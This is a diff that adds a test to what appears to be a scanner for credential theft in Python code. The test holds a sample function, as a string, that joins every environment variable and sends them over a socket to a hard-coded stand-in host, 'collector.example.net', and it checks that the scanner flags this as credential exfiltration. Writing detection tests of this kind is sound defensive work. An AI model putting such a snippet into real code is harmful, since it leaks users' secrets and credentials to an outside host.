@@ -397,3 +397,24 @@ def test_what_a_helper_of_the_file_sends_is_followed_from_its_call(
     rules, held = _in_function("import os, requests\n" + source)
     assert (rules.get("credential-exfil", 0) + rules.get("secret-exfil", 0) >= 10) is expected
     assert held is expected
+
+
+@pytest.mark.parametrize(
+    ("host", "expected"),
+    [('"collector.example.net"', True), ("server", False)],
+    ids=["a host written in", "the caller's host"],
+)
+def test_the_environment_sent_down_a_socket_to_a_host_written_in_is_credential_exfil(
+    host: str, expected: bool
+) -> None:
+    source = (
+        "import os, socket\n"
+        "def report(server):\n"
+        '    info = " ".join(["%s=%s" % (k, v) for (k, v) in os.environ.items()])\n'
+        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+        f"    s.connect(({host}, 80))\n"
+        "    s.sendall(info.encode())\n"
+    )
+    rules, held = _in_function(source)
+    assert (rules.get("credential-exfil", 0) >= 10) is expected
+    assert held is expected
